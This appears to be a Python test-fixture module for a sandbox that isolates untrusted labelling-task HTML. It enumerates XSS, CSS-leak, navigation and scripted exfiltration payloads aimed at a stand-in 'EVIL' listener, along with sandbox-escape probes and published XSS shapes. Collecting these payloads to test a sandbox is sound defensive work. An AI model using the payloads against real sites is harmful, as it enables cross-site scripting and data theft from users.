"""What a hostile template may try. `EVIL` is the listener, `HOME` our own site.

`BARE` attacks are HTML alone; `SCRIPTED` ones are the body of an async function. Each
reaches the listener when nothing is in its way, but for `INERT` and `OURS`.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One try; `press` selects what a worker is lured to press."""

    name: str
    html: str
    press: str = ""


_LURE = "<crowd-form><p>Look at it.</p></crowd-form>"


def _bare() -> dict[str, str]:
    return {
        "img": "<img src=EVIL/x>",
        "img-srcset": "<img srcset='EVIL/x 1x'>",
        "picture": "<picture><source srcset=EVIL/x><img></picture>",
        "svg-image": "<svg><image href=EVIL/x width=9 height=9 /></svg>",
        "css-url": "<p style=\"background:url('EVIL/x')\">x",
        "css-import": "<style>@import 'EVIL/x';</style>",
        "css-font": (
            "<style>@font-face{font-family:f;src:url(EVIL/x)}p{font-family:f}</style>"
            "<p>x"
        ),
        "css-attribute-leak": (
            "<input value=s><style>input[value^=s]{background:url(EVIL/s)}</style>"
        ),
        "stylesheet": "<link rel=stylesheet href=EVIL/x>",
        "preload": "<link rel=preload as=image href=EVIL/x>",
        "modulepreload": "<link rel=modulepreload href=EVIL/x>",
        "prefetch": "<link rel=prefetch href=EVIL/x>",
        "preconnect": "<link rel=preconnect href=EVIL>",
        "iframe": "<iframe src=EVIL/x></iframe>",
        "iframe-srcdoc": "<iframe srcdoc='<img src=EVIL/x>'></iframe>",
        "object": "<object data=EVIL/x></object>",
        "embed": "<embed src=EVIL/x>",
        "poster": "<video poster=EVIL/x width=9 height=9></video>",
        "audio": "<audio src=EVIL/x preload=auto></audio>",
        "track": (
            "<video crossorigin muted autoplay><track default kind=captions src=EVIL/x>"
            "</video><link rel=preload as=track href=EVIL/x>"
        ),
        "input-image": "<input type=image src=EVIL/x>",
        "background": "<table background=EVIL/x><tr><td>x</table>",
        "base": "<base href=EVIL/><img src=x>",
        "refresh": "<meta http-equiv=refresh content='0;url=EVIL/x'>",
        "script-file": "<script src=EVIL/x></script>",
        "script-module": "<script type=module src=EVIL/x></script>",
        "script": "<script>fetch('EVIL/x')</script>",
        "svg-script": "<svg><script>fetch('EVIL/x')</script></svg>",
        "svg-script-file": "<svg><script href=EVIL/x></script></svg>",
        "onerror": "<img src=x: onerror=fetch('EVIL/x')>",
        "svg-onload": "<svg onload=fetch('EVIL/x')>",
        "svg-animate": "<svg><animate onbegin=fetch('EVIL/x') attributeName=x dur=1s>",
        "details": "<details open ontoggle=fetch('EVIL/x')>x</details>",
        "autofocus": "<input autofocus onfocus=fetch('EVIL/x')>",
        "srcdoc-script": "<iframe srcdoc=\"<script>fetch('EVIL/x')</script>\">",
        "javascript-frame": "<iframe src=\"javascript:fetch('EVIL/x')\"></iframe>",
        "mutation": (
            "<math><mtext><table><mglyph><style><!--</style>"
            "<img title=\"--&gt;\" src=x: onerror=fetch('EVIL/x')>"
        ),
        "noscript": "<noscript><p title='</noscript><img src=EVIL/x>'>",
        "template-shadow": (
            "<div><template shadowrootmode=open><img src=EVIL/x></template></div>"
        ),
        "speculation": (
            '<script type=speculationrules>{"prefetch":[{"urls":["EVIL/x"],'
            '"eagerness":"immediate"}]}</script>'
        ),
    }


def _pressed() -> dict[str, str]:
    form = "<form action=EVIL/x method={0} {1}><input name=a value=b>{2}</form>"
    button = "<button id=go>Go</button>"
    return {
        "link": "<a id=go href=EVIL/x>Go</a>",
        "link-blank": "<a id=go href=EVIL/x target=_blank>Go</a>",
        "link-top": "<a id=go href=EVIL/x target=_top>Go</a>",
        "link-download": "<a id=go href=EVIL/x download>Go</a>",
        "link-ping": "<a id=go href=#x ping=EVIL/x>Go</a>",
        "link-svg": "<svg><a href=EVIL/x><text id=go y=20>Go</text></a></svg>",
        "link-script": "<a id=go href=\"javascript:fetch('EVIL/x')\">Go</a>",
        "form-blank": form.format("post", "target=_blank", button),
        "form-top": form.format("get", "target=_top", button),
    }


def _scripted() -> dict[str, str]:
    return {
        "fetch": "await fetch('EVIL/x', {mode: 'no-cors'})",
        "keepalive": "await fetch('EVIL/x', {keepalive: true, mode: 'no-cors'})",
        "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'EVIL/x'); x.send()",
        "beacon": "navigator.sendBeacon('EVIL/x', 'data')",
        "image": "new Image().src = 'EVIL/x'",
        "style": "document.body.style.background = 'url(EVIL/x)'",
        "font": "await new FontFace('f', 'url(EVIL/x)').load()",
        "websocket": "new WebSocket('EVIL/x'.replace('http', 'ws'))",
        "eventsource": "new EventSource('EVIL/x')",
        "import": "await import('EVIL/x')",
        "frame": "put('iframe', {src: 'EVIL/x'})",
        "object": "put('object', {data: 'EVIL/x'})",
        "prefetch": "put('link', {rel: 'prefetch', href: 'EVIL/x'})",
        "preconnect": "put('link', {rel: 'preconnect', href: 'EVIL'})",
        "popup": "open('EVIL/x')",
        "popup-blank": "open('').location = 'EVIL/x'",
        "form": "send(put('form', {action: 'EVIL/x', method: 'post'}))",
        "form-window": ("send(put('form', {action: 'EVIL/x', target: 'elsewhere'}))"),
        "location": "location = 'EVIL/x?data'",
        "replace": "location.replace('EVIL/x?data')",
        "navigation": "navigation.navigate('EVIL/x?data')",
        "anchor": "put('a', {href: 'EVIL/x?data'}).click()",
        "anchor-download": "put('a', {href: 'EVIL/x?data', download: ''}).click()",
        "refresh": "put('meta', {httpEquiv: 'refresh', content: '0;url=EVIL/x'})",
        "speculation": (
            "put('script', {type: 'speculationrules', text: JSON.stringify({prefetch:"
            " [{urls: ['EVIL/x'], eagerness: 'immediate'}]})})"
        ),
        "worker": ("new Worker(URL.createObjectURL(new Blob([\"fetch('EVIL/x')\"])))"),
        "child-fetch": "await put('iframe', {}).contentWindow.fetch('EVIL/x')",
        "child-image": (
            "const w = put('iframe', {}).contentWindow; new w.Image().src = 'EVIL/x'"
        ),
        "child-location": "put('iframe', {}).contentWindow.location = 'EVIL/x'",
        "blob-document": (
            "location = URL.createObjectURL(new Blob(['<img src=EVIL/x>'],"
            " {type: 'text/html'}))"
        ),
        "webrtc": _WEBRTC,
        "webrtc-child": "const w = put('iframe', {}).contentWindow; " + _WEBRTC,
    }


_WEBRTC = (
    "const Peer = (typeof w === 'undefined' ? window : w).RTCPeerConnection;"
    "const peer = new Peer({iceServers: [{urls: 'stun:STUN'}]});"
    "peer.createDataChannel('x'); await peer.setLocalDescription();"
    "window.kept = peer"
)
_TOOLS = (
    "window.said = ''; const put = (tag, more) => document.body.appendChild("
    "Object.assign(document.createElement(tag), more));"
    "const send = (form) => put('iframe', {}).contentWindow.HTMLFormElement"
    ".prototype.submit.call(form);"
)


def script(body: str) -> str:
    """Write a document whose script says what became of it in `window.said`."""
    return (
        f"{_LURE}<script>(async () => {{ {_TOOLS} try {{ {body}; said = 'done' }}"
        " catch (error) { said = error.name } })()</script>"
    )


_MOVES = {
    "top": "top.location = 'EVIL/x'",
    "parent": "parent.location.replace('EVIL/x')",
    "popup-pressed": "open('EVIL/x', '_blank', 'noopener')",
}
BARE = [
    *[Attack(name, _LURE + html) for name, html in _bare().items()],
    *[Attack(name, _LURE + html, press="#go") for name, html in _pressed().items()],
]
SCRIPTED = [
    *[Attack(name, script(body)) for name, body in _scripted().items()],
    *[
        Attack(
            name, script(f"put('button', {{id: 'go', onclick: () => {body}}})"), "#go"
        )
        for name, body in _MOVES.items()
    ],
]

INERT = {"preconnect", "speculation"}
"""Hints that this browser leaves alone under test: no wall can be seen to stop them."""

OURS = {"form-blank", "form-top", "autofocus"}
"""Stopped even without walls: our script sends forms itself, and a browser gives no
focus to another site's frame."""

INNER = {
    "cookie": ("document.cookie", "SecurityError"),
    "set-cookie": ("document.cookie = 'a=b'", "SecurityError"),
    "local-storage": ("localStorage.getItem('x')", "SecurityError"),
    "session-storage": ("sessionStorage.getItem('x')", "SecurityError"),
    "indexed-db": (
        "indexedDB.open('x')",
        "SecurityError",
    ),
    "caches": ("await caches.open('x')", "SecurityError"),
    "parent-dom": ("parent.document.title", "SecurityError"),
    "parent-name": ("parent.host", "SecurityError"),
    "parent-script": ("parent.eval('1')", "SecurityError"),
    "frame-element": ("window.frameElement.src", "TypeError"),
    "top-href": ("top.location.href", "SecurityError"),
    "top-move": ("top.location.href = 'HOME/account'", "SecurityError"),
    "eval": ("eval('1')", "EvalError"),
    "function": ("new Function('return 1')()", "EvalError"),
    "service-worker": (
        "await navigator.serviceWorker.register('/frame/sw.js')",
        "SecurityError",
    ),
    "shared-worker": ("new SharedWorker('/frame/x.js').port", "SecurityError"),
    "home-fetch": ("await fetch('HOME/claim', {method: 'POST'})", "TypeError"),
    "referrer": ("if (!document.referrer) throw new RangeError()", "RangeError"),
    "origin": (
        "if (origin === 'null') throw new RangeError()",
        "RangeError",
    ),
}
"""What a script may read or do around it, and the error that it gets instead."""

PUBLISHED = [
    "<img src=x: onerror=parent.breach()>",
    "<svg/onload=parent.breach()>",
    '"><svg/onload=top.breach()>',
    '<math><mi xlink:href="javascript:top.breach()">x</mi></math>',
    "<iframe srcdoc='<script>top.breach()</script>'></iframe>",
    '<object data="data:text/html,<script>top.breach()</script>"></object>',
    "<details open ontoggle=top.breach()>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=breach()>",
    "<svg><style><img src=x: onerror=top.breach()></style></svg>",
    '<noscript><p title="</noscript><img src=x: onerror=top.breach()>">',
    "<a href=javascript:top.breach() id=x>x</a><script>x.click()</script>",
    "<svg><foreignObject><iframe srcdoc=&lt;script&gt;top.breach()&lt;/script&gt;>",
    "{{constructor.constructor('top.breach()')()}}",
    "javascript:top.breach()",
    "<template><script>top.breach()</script></template>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=top.breach()></svg>#x">',
]
"""Shapes published against labelling tools: texts, settings, avatars, SVG."""
